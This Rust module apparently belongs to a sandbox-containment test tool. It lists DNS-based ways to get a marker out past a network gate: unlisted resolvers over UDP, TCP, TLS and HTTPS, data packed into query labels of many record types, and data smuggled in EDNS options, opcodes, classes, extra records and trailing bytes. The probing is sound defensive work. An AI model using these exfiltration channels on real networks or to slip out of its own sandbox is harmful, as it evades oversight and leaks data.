//! T2: questions for names as a way out. What a resolver passes on, somebody outside reads: only the far
//! side knows whether it did.

use crate::attack::{Answer, Attack, lacking, refused, succeeded};
use crate::trial::{Trial, Tried};
use crate::wire::dns::{self, Message};
use crate::wire::exchange::{self, all_at_once, exchange_datagram, holds};
use crate::wire::hello::{self, Hello};
use agentbox_probe::Outcome;
use std::net::SocketAddr;

const OTHER: &[&str] = &["network.other_resolvers"];

type Messages = fn(&Trial<'_>, &str) -> Vec<Message>;

/// Questions that hold the name of the allowed site.
macro_rules! under_allowed {
    ($id:literal, $title:literal, $messages:expr) => {
        Attack::network($id, $title, &["network.allowed", "network.resolvers"], |t| {
            let messages: Messages = $messages;
            let allowed = t.allowed()?;
            ask(t, messages(t, &allowed.site.name))
        })
        .on_host()
    };
}
pub(super) const TABLE: &[Attack] = &[
    Attack::network("t2.other-resolver", "ask another resolver over UDP", OTHER, |t| {
        other(t, 53, |to, message, token| exchange_datagram(to, message, |heard| holds(heard, token), false))
    }),
    Attack::network("t2.other-resolver-tcp", "ask another resolver over TCP", OTHER, |t| {
        other(t, 53, |to, message, token| match dns::ask_stream(to, message) {
            Ok(said) if holds(&said.bytes, token) => succeeded("the far end answered"),
            Ok(said) => refused(format!("code {}", said.code)),
            Err(answer) => answer,
        })
    }),
    Attack::network("t2.dns-over-tls", "ask another resolver over TLS", OTHER, |t| other(t, 853, over_tls)),
    Attack::network("t2.dns-over-https", "ask another resolver over HTTPS, by its address", OTHER, |t| {
        other(t, 443, over_tls)
    }),
    label("t2.label-a", "tell something in a name: A", |t| asked(t, dns::A)),
    label("t2.label-aaaa", "tell something in a name: AAAA", |t| asked(t, dns::AAAA)),
    label("t2.label-txt", "tell something in a name: TXT", |t| asked(t, dns::TXT)),
    label("t2.label-mx", "tell something in a name: MX", |t| asked(t, dns::MX)),
    label("t2.label-srv", "tell something in a name: SRV", |t| asked(t, dns::SRV)),
    label("t2.label-null", "tell something in a name: NULL", |t| asked(t, dns::NULL)),
    label("t2.label-cname", "tell something in a name: CNAME", |t| asked(t, dns::CNAME)),
    label("t2.label-ns", "tell something in a name: NS", |t| asked(t, dns::NS)),
    label("t2.label-soa", "tell something in a name: SOA", |t| asked(t, dns::SOA)),
    label("t2.label-ptr", "tell something in a name: PTR", |t| asked(t, dns::PTR)),
    label("t2.label-https", "tell something in a name: HTTPS", |t| asked(t, dns::HTTPS)),
    label("t2.label-svcb", "tell something in a name: SVCB", |t| asked(t, dns::SVCB)),
    label("t2.label-any", "tell something in a name: ANY", |t| asked(t, dns::ANY)),
    label("t2.label-axfr", "tell something in a name: a transfer of its zone", |t| asked(t, dns::AXFR)),
    label("t2.label-unknown", "tell something in a name: types that nobody knows", |t| {
        let name = format!("{}.{}", t.mark, t.refused()?.name);
        ask(t, [0, 41, 250, 255, 1000, 65280, 65535].map(|kind| Message::question(&name, kind)))
    }),
    label("t2.label-special", "tell something in a name of a domain with a meaning of its own", |t| {
        let ends = [
            "",
            "local",
            "internal",
            "localhost",
            "onion",
            "test",
            "invalid",
            "home.arpa",
            "in-addr.arpa",
            "ip6.arpa",
        ];
        let kinds = [dns::A, dns::AAAA, dns::PTR, dns::TXT];
        ask(
            t,
            ends.into_iter()
                .flat_map(|end| kinds.map(|kind| Message::question(&format!("{}.{end}", t.mark), kind))),
        )
    }),
    under_allowed!("t2.label-under-allowed", "tell something in a name below an allowed one", |t, name| {
        let name = format!("{}.{name}", t.mark);
        [dns::A, dns::AAAA, dns::TXT, dns::MX, dns::HTTPS].map(|kind| Message::question(&name, kind)).to_vec()
    }),
    under_allowed!(
        "t2.dns-options",
        "tell something in options of a question for an allowed name",
        |t, name| {
            // Identifier, client's network, cookie, padding, a reason, and two for experiments.
            [3, 8, 10, 12, 15, 65001, 65534]
                .map(|code| changed(name, |m| m.options.push((code, t.payload()))))
                .to_vec()
        }
    ),
    under_allowed!("t2.dns-operations", "tell something by another operation than a question", |t, name| {
        let name = format!("{}.{name}", t.mark);
        // Inverse, status, notify, update, stateful.
        [1, 2, 4, 5, 6, 15].map(|operation| changed(&name, |m| m.operation = operation)).to_vec()
    }),
    under_allowed!("t2.dns-classes", "tell something in another class of names", |t, name| {
        let name = format!("{}.{name}", t.mark);
        [dns::CLASS_CH, dns::CLASS_HS, 254, 255]
            .map(|class| changed(&name, |m| m.questions[0].2 = class))
            .to_vec()
    }),
    under_allowed!("t2.dns-second-question", "tell something in a second question", |t, name| {
        let second = (format!("{}.{name}", t.mark), dns::TXT, dns::CLASS_IN);
        vec![changed(name, |m| m.questions.push(second))]
    }),
    under_allowed!("t2.dns-further-record", "tell something in a record behind the question", |t, name| {
        vec![changed(name, |m| m.additional.push((name.to_owned(), t.payload())))]
    }),
    under_allowed!("t2.dns-behind-the-end", "tell something behind the end of the message", |t, name| {
        vec![changed(name, |m| m.tail = t.payload())]
    }),
];

const fn label(id: &'static str, title: &'static str, run: fn(&Trial<'_>) -> Tried) -> Attack {
    Attack::network(id, title, &["network.refused", "network.resolvers"], run).on_host()
}

fn changed(name: &str, change: impl FnOnce(&mut Message)) -> Message {
    let mut message = Message::question(name, dns::A);
    change(&mut message);
    message
}

/// The question over both transports to every resolver that this process is told to ask.
fn asked(t: &Trial<'_>, kind: u16) -> Tried {
    let name = format!("{}.{}", t.mark, t.refused()?.name);
    ask(t, [Message::question(&name, kind)])
}

fn ask(t: &Trial<'_>, messages: impl IntoIterator<Item = Message>) -> Tried {
    if t.network.resolvers.is_empty() {
        return Err(lacking("resolver"));
    }
    let messages: Vec<Vec<u8>> = messages.into_iter().map(|message| message.bytes()).collect();
    let ways: Vec<_> = t
        .network
        .resolvers
        .iter()
        .flat_map(|resolver| {
            messages.iter().flat_map(move |message| [(*resolver, message, true), (*resolver, message, false)])
        })
        .collect();
    // What came back says little: the gate itself answers much of this. The far side tells.
    let answer = all_at_once(
        &ways,
        |(resolver, ..)| resolver.to_string(),
        |(resolver, message, datagram)| {
            let said = if *datagram {
                dns::ask(*resolver, message)
            } else {
                dns::ask_stream(SocketAddr::new(*resolver, 53), message)
            };
            match said {
                Ok(said) => succeeded(format!("answered with code {}", said.code)),
                Err(answer) => answer,
            }
        },
    );
    Ok(answer)
}

/// A question to resolvers that nobody was told to ask.
fn other(t: &Trial<'_>, port: u16, attempt: impl Fn(SocketAddr, &[u8], &str) -> Answer + Sync) -> Tried {
    if t.network.other_resolvers.is_empty() {
        return Err(lacking("other resolver"));
    }
    let message = Message::question(&format!("{}.example.org", t.mark), dns::TXT).bytes();
    Ok(all_at_once(
        &t.network.other_resolvers,
        |resolver| format!("{}", resolver.address.ip()),
        |resolver| attempt(SocketAddr::new(resolver.address.ip(), port), &message, &resolver.token),
    ))
}

/// With a hello that names nobody, one that names the resolver, and none at all.
fn over_tls(to: SocketAddr, message: &[u8], token: &str) -> Answer {
    let question = hello::data(message);
    let mut seen = refused("not tried");
    for hello in [Hello::silent(), Hello::naming("dns.example.org"), Hello::naming(to.ip().to_string())] {
        seen = exchange::tcp(to, &[&hello.record(), &question], token);
        if seen.outcome == Outcome::Succeeded {
            return seen;
        }
    }
    let plain = exchange::tcp(to, &[message], token);
    if plain.outcome == Outcome::Succeeded { plain } else { seen }
}
